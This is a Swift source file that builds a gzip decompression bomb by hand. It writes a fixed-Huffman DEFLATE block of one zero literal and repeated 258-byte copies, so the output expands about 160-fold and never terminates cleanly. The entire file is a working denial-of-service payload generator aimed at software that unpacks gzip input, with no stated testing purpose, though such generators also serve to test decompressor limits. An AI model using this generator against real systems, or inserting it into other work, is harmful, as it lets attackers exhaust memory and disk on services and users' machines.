import Foundation

/// The start of a gzip stream of zeros, made without a compressor; it never ends in order.
enum GzipBomb {
    /// At least `size` bytes once unpacked, about a 160th of it packed.
    static func packed(unpackedTo size: Int) -> Data {
        var bits = Bits()
        // One block of fixed Huffman codes (RFC 1951, section 3.2.6): a literal 0, then copies of 258 bytes from 1 byte back.
        bits.append([1, 1, 0])
        bits.append([0, 0, 1, 1, 0, 0, 0, 0])
        for _ in 0...(size / 258) { bits.append([1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]) }
        return Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF] + bits.bytes)
    }

    private struct Bits {
        var bytes: [UInt8] = []
        private var count = 0

        mutating func append(_ bits: [UInt8]) {
            for bit in bits {
                if count.isMultiple(of: 8) { bytes.append(0) }
                bytes[count / 8] |= bit << UInt8(count % 8)
                count += 1
            }
        }
    }
}
